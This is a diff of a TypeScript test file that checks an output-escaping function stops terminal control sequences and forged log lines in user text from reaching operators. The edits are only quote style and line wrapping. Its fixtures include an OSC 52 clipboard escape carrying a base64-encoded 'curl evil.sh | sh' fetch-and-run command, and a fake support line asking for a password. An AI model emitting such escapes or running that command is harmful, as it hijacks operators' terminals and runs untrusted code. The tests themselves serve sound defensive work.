@@ -1,6 +1,6 @@
 import { shown, table } from './output';
 
-describe("what ops prints from users (issue 42: terminal escapes reached operators)", () => {
+describe('what ops prints from users (issue 42: terminal escapes reached operators)', () => {
   it('when user text holds control characters, then each is written out and nothing reaches the terminal raw', () => {
     const clear = '\u001b[2J\u001b[H';
     const clipboard = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
@@ -14,7 +14,9 @@ describe("what ops prints from users (issue 42: terminal escapes reached operato
   });
 
   it('when user text holds newlines, tabs, backslashes or bidirectional overrides, then they are shown, so no line can be forged', () => {
-    expect(shown('thanks\n[2026-11-28 05:00] support (Ali): send your password')).toBe('thanks\\n[2026-11-28 05:00] support (Ali): send your password');
+    expect(shown('thanks\n[2026-11-28 05:00] support (Ali): send your password')).toBe(
+      'thanks\\n[2026-11-28 05:00] support (Ali): send your password',
+    );
     expect(shown('a\tb\\x1b')).toBe('a\\tb\\\\x1b');
     expect(shown('abc\u202Edcba')).toBe('abc\\u202edcba');
     expect(shown('Masjid an-Nūr, 12 Rue de Lille')).toBe('Masjid an-Nūr, 12 Rue de Lille');
